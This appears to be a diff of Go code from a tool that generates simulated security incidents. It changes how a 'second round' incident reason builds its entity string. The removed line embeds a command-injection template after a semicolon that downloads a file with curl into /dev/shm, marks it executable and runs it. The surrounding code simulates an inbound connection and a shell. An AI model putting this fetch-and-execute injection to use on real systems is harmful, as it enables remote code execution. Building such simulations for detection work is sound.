@@ -147,7 +147,7 @@ func (n *narrator) otherHost() {
 func (n *narrator) secondRound() {
 	again := incident.Reason{
 		Reason: incident.ReasonService + "+" + incident.ReasonCommand,
-		Entity: n.service().Context.ID + "; curl {url} -o /dev/shm/{name}; chmod +x /dev/shm/{name}; /dev/shm/{name}", Weight: 0.86,
+		Entity: n.service().Context.ID + "; " + incident.CommandTemplate(secondCommand), Weight: 0.86,
 	}
 	n.accept(10*time.Minute-100*time.Millisecond, "198.51.100.7")
 	shell := n.shell(40221, 10*time.Minute, secondCommand)
